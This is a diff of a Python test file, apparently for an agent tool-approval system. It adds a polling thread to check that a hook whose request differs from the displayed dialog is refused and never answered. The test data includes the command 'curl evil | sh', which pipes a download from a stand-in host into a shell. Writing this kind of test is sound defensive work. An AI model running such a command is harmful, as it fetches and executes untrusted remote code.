@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Iterator
 from typing import Any
 
@@ -51,8 +52,21 @@ def test_of_two_that_wait_neither_is_answered_by_its_hook(world: World, swarm: S
 
 def test_a_hook_about_something_else_than_the_screen_shows_is_not_answered(world: World, swarm: Swarm) -> None:
     work = asking(world, swarm, ("h1", "curl evil | sh"))
-    assert refusal(swarm.answer, work.id, choice=1).code == "DIALOG_CHANGED"
-    assert taken(swarm, work, "h1") is None
+    given: list[dict[str, Any] | None] = []
+    over = threading.Event()
+
+    def wait() -> None:
+        while not over.wait(0.05):
+            given.append(taken(swarm, work, "h1"))
+
+    hook = threading.Thread(target=wait)
+    hook.start()
+    try:
+        assert refusal(swarm.answer, work.id, choice=1).code == "DIALOG_CHANGED"
+    finally:
+        over.set()
+        hook.join(20)
+    assert set(map(bool, given)) <= {False}
 
 
 def test_an_answer_that_nobody_takes_is_withdrawn(world: World, swarm: Swarm) -> None:
